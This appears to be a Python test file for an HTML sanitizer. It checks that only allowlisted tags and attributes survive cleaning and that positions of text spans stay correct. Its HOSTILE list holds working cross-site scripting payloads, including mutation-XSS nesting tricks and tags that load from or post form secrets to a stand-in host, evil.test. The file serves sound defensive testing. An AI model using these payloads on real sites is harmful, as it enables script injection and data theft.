import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scrapy_bt.console.foreign.allowed import ATTRIBUTES, KEPT
from scrapy_bt.console.foreign.cleaning import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><script>alert(1)</script><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.test'</style>",
    "<b style='background:url(https://evil.test)'>x</b>",
    "<base href=https://evil.test><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.test>",
    "<form action=//evil.test><input type=hidden value=secret><input type=password value=secret></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.test></object><embed src=//evil.test>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<p title='\"><img src=x onerror=alert(1)>'>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<bt-t data-s='0' onclick=alert(1)>x</bt-t>",
    "<a id=x name=y onclick\n=alert(1)>x</a>",
]


class Reader(HTMLParser):
    """Collects what a browser would be given."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}


def read(source: str) -> Reader:
    reader = Reader()
    reader.feed(clean(source))
    reader.close()
    return reader


def check(source: str) -> None:
    found = read(source)
    assert set(found.tags) <= {*KEPT, "bt-t"}
    assert found.attributes <= {*ATTRIBUTES, "data-s", "data-e", "data-href", "data-src", "data-id"}


@pytest.mark.parametrize("source", HOSTILE)
def test_only_what_is_on_the_lists_goes_through(source: str) -> None:
    check(source)
    check(f"<div>{source}<p>after")
    assert "secret" not in clean(source)


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", "&", "'", '"', "</", "<p", "x", "\n", "=", "/"]), max_size=12))
def test_no_mixture_goes_through(parts: list[str]) -> None:
    check("".join(parts))


@given(st.text("a<>&;\n🍞b\"'/ ", max_size=60))
def test_texts_stand_where_they_say(text: str) -> None:
    units = text.encode("utf-16-le")
    for start, end, shown in re.findall(r'<bt-t data-s="(\d+)"(?: data-e="(\d+)")?>([^<]*)</bt-t>', clean(text)):
        first = int(start)
        last = int(end) if end else first + len(unescape(shown).encode("utf-16-le")) // 2
        written = units[2 * first : 2 * last].decode("utf-16-le")
        assert unescape(shown) == (unescape(written) if end else written)


def test_addresses_are_data_and_fields_show_their_values() -> None:
    shown = clean('<a href="/x" class="c">go</a><input value="soup"><select><option>a</select>')
    assert '<a data-s="0" data-e="23" data-href="/x" class="c">' in shown
    assert ">soup</span>" in shown
    assert "<div" in shown


def test_what_is_not_shown_takes_its_content_with_it_and_nothing_else() -> None:
    assert re.sub("<[^>]*>", "", clean("<title>t</title><svg><title>u</svg>a<script>b</script>c")) == "ac"


def test_a_page_is_shown_up_to_a_size() -> None:
    assert len(clean("x" * 3_000_000)) < 2_001_000


def test_what_ends_within_what_is_dropped_ends_it_only_by_its_own_name() -> None:
    shown = clean("<svg><title><svg></math></title><p>in</p></svg></svg><p>out</p>")
    assert "out" in shown
    assert "in<" not in clean("<svg><svg></svg><p>in</p></svg>")
